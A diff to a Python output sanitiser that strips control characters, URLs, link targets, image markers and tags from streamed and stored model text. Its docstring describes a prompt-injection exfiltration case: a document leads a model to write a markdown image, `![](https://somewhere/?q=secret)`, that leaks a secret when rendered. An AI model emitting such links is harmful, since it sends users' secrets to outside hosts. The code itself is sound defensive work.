@@ -2,19 +2,31 @@
 
 A document can make a model write `![](https://somewhere/?q=secret)`, and a client that renders
 it would send the secret. The same code cleans streamed and stored text, so there is no second
-path to forget. Text is held back only while it could still become a link.
+path to forget.
+
+Whatever is removed is a run of printable ASCII, so a stream only has to hold back the run at its
+end: cut anywhere else, the pieces are cleaned to the same text as the whole. Chinese flows on.
 """
 
 import re
 
-CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]")
-URL = re.compile(r"(?:[a-z][a-z0-9+.-]*:)?//[^\s<>\"'）」』，。]+|(?:javascript|data):\S+", re.I)
-LINK_TARGET = re.compile(r"\]\([^)\s]*\)?")
-REFERENCE = re.compile(r"!\[")
-TAG = re.compile(r"<(?=[a-zA-Z/!])")
-#: The end of the text that may still grow into one of the above: a run of ASCII without a space.
-UNFINISHED = re.compile(r"[!-~]+\Z")
-LONGEST_HELD = 400
+#: Besides control characters: invisible ones, ones that turn the direction of text, and tags.
+CONTROL = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f"
+    "\ufeff\ufff9-\ufffb\U000e0000-\U000e0fff]"
+)
+RUN = "".join(map(chr, range(0x21, 0x7F)))
+LINK_TARGET = re.compile(r"\](?:\([!-'*-~]*\)?)+")
+_BODY = r"[!#-&(-;=?-~]"
+URL = re.compile(
+    rf"(?:(?<![A-Za-z0-9+.-])[A-Za-z][A-Za-z0-9+.-]*://|//(?={_BODY})"
+    rf"|(?<![A-Za-z0-9])(?:[Ww]{{3}}\.|(?i:javascript|vbscript):|(?i:data):[A-Za-z;,])(?={_BODY}))"
+    # but not the punctuation of the sentence around it
+    rf"(?:{_BODY}+(?<![]).,:;!?]))?",
+    re.ASCII,
+)
+IMAGE = re.compile(r"!+\[")
+TAG = re.compile(r"<(?=[A-Za-z/!?])")
 REMOVED = "[link removed]"
 
 
@@ -26,11 +38,8 @@ class Sanitiser:
 
     def push(self, text: str) -> str:
         """Add text; returns what can be shown now."""
-        self._held += text
-        match = UNFINISHED.search(self._held)
-        cut = match.start() if match else len(self._held)
-        if len(self._held) - cut > LONGEST_HELD:
-            cut = len(self._held)
+        self._held += CONTROL.sub("", text)
+        cut = len(self._held.rstrip(RUN))
         ready, self._held = self._held[:cut], self._held[cut:]
         return clean(ready)
 
@@ -44,6 +53,6 @@ def clean(text: str) -> str:
     """`text` as it may be shown and stored."""
     text = CONTROL.sub("", text)
     text = LINK_TARGET.sub("]", text)
-    text = REFERENCE.sub("[", text)
     text = URL.sub(REMOVED, text)
+    text = IMAGE.sub("[", text)
     return TAG.sub("‹", text)
